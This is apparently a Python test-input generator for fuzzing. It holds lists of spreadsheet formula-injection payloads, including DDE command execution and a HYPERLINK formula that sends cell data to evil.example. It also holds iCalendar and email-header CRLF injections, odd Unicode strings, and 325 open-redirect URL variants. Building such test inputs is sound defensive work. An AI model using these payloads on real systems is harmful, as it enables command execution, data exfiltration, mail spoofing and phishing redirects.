"""Texts that want to be more than text in a file of another kind, and addresses that lead away."""

import random
from collections.abc import Iterator

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+49 201 5551",
    "-2+3",
    "=WEBSERVICE(CONCATENATE(A1))",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "%0A=1",
)
CUTS = (
    '"',
    ";",
    ",",
    '";=1+1;"',
    '"\r\n=1+1',
    "\r\n",
    "\n",
    "\r",
    "\x0b",
    "\x0c",
    "\x85",
    "\u2028",
)
CALENDAR = (
    "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Noch einer",
    "\nATTENDEE:mailto:opfer@evil.example",
    "\\nORGANIZER:mailto:opfer@evil.example",
    "\r\nDTSTART:20000101T000000Z",
    "\rX-ALT-DESC;FMTTYPE=text/html:<b>x</b>",
    "\\,\\;\\N",
    "\x0bURL:http://evil.example/",
    "\u2028BEGIN:VALARM",
    ":" * 80,
    "\\",
)
HEADERS = (
    "\r\nBcc: opfer@evil.example",
    "\nTo: opfer@evil.example",
    "\r\n\r\n<h1>Anderer Text</h1>",
    "\rSubject: Anders",
    "%0d%0aBcc: opfer@evil.example",
    "=?utf-8?q?=0D=0ABcc=3A_opfer=40evil.example?=",
    "opfer@evil.example, zweites@evil.example",
    "Anna <opfer@evil.example>",
    '"Anna" <opfer@evil.example>;',
    "\x00Bcc: x@evil.example",
    "\x85Bcc: opfer@evil.example",
    "\u2029Bcc: opfer@evil.example",
)
ODD = (
    "\x00",
    "\x01\x02\x1b[31m",
    "\ud800",
    "\ufffe\uffff",
    "\u202egnp.exe",
    "_x000D_=1",
    "_x0041_",
    "\ufeffvorne",
    "Zoë Öçgül-Ñuñez",
    "👩\u200d👩\u200d👧",
    "]]>",
    "<!--",
    "&#61;1+1",
    "a\u0301" * 30,
    "x" * 40_000,
    "",
    " ",
)
ALL = FORMULAS + CUTS + CALENDAR + HEADERS + ODD


def texts(number: int, seed: int) -> Iterator[str]:
    """First each as it is, then two to four of them in a row."""
    chance = random.Random(seed)
    for count in range(number):
        if count < len(ALL):
            yield ALL[count]
        else:
            yield "".join(chance.choices(ALL[:-3], k=chance.randint(2, 4)))[:2_000]


HOSTS = (
    "evil.example",
    "evil.example:80",
    "127.0.0.1.evil.example",
    "user@evil.example",
    "[::1]:9",
)
STARTS = (
    "http://{}",
    "https://{}",
    "//{}",
    "///{}",
    "////{}",
    "/\\{}",
    "\\\\{}",
    "/\\/{}",
    "\\/{}",
    "http:{}",
    "http:/{}",
    "http:\\\\{}",
    "https:///{}",
    "ftp://{}",
    "javascript:alert(1)//{}",
    "data:text/html,{}",
    "vbscript:{}",
    "/\t/{}",
    "/\n/{}",
    "\t//{}",
    " //{}",
    "\x00//{}",
    "\x1f//{}",
    "h\nttp://{}",
    "/%09/{}",
    "//%5c{}",
    "/.//{}",
    "/..//{}",
    "http://127.0.0.1@{}",
    "http://127.0.0.1\\@{}",
    "//{}%2f%2e%2e",
    "//{}/%2e%2e",
    "///\\;@{}",
    "//\u3002{}",
    "／／{}",
    "/／{}",
    "http://{}#@127.0.0.1/",
    "//{}\\..\\..",
    "HTTP://{}",
    "https:{}",
    "http:///{}/",
    "?next=//{}",
    "/redirect?to=//{}",
    ".{}",
    "@{}",
    "://{}",
    "http://{}\r\nSet-Cookie: a=b",
    "/\r\nLocation: http://{}",
    "//{}\r\nX-Eigen: 1",
    "http://０１２７.0.0.1.{}",
    "\\\t\\{}",
    "/\\\t/{}",
    "//\\{}",
    "/ /{}",
    "http&colon;//{}",
    "//{}?",
    "//{};",
    "//{}.",
    "//{}/../",
    "http://[{}",
    "http://{}]",
    "//[{}]",
    "http://:80@{}",
    "\u00a0//{}",
    "\ufeff//{}",
)


def addresses() -> list[str]:
    """Every start with every host: 325."""
    return [start.replace("{}", host) for start in STARTS for host in HOSTS]
